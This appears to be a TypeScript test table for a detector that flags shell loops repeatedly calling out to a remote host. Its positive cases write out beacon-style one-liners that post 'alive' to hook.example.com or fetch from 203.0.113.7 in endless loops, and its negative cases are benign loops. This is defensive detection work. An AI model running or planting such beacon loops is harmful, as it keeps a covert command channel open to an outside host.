import { indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandCallBackLoop } from './call-back-loop.ts';

indicatorTable(commandCallBackLoop, {
  fires: {
    'a beacon': script('while true; do curl -s -d "alive" https://hook.example.com/x; sleep 60; done'),
    'with a colon': script('while :; do wget -qO- http://203.0.113.7/next; sleep 5; done'),
    'inside a function that the loop calls': script(
      'beat() { curl -s https://hook.example.com/x; }; while [ 1 ]; do beat; sleep 9; done',
    ),
  },
  staysSilent: {
    'a wait for a service': script('until curl -sf https://shop.example.com/ready; do sleep 5; done'),
    'a loop that ends': script('for i in 1 2 3; do curl -s https://shop.example.com/; done'),
    'a service of the cluster': script('while true; do curl -s http://metrics.shop.svc/push; sleep 60; done'),
    once: script('curl -s https://hook.example.com/x; while true; do sleep 60; done'),
  },
  cannotTell: UNSEEN,
});
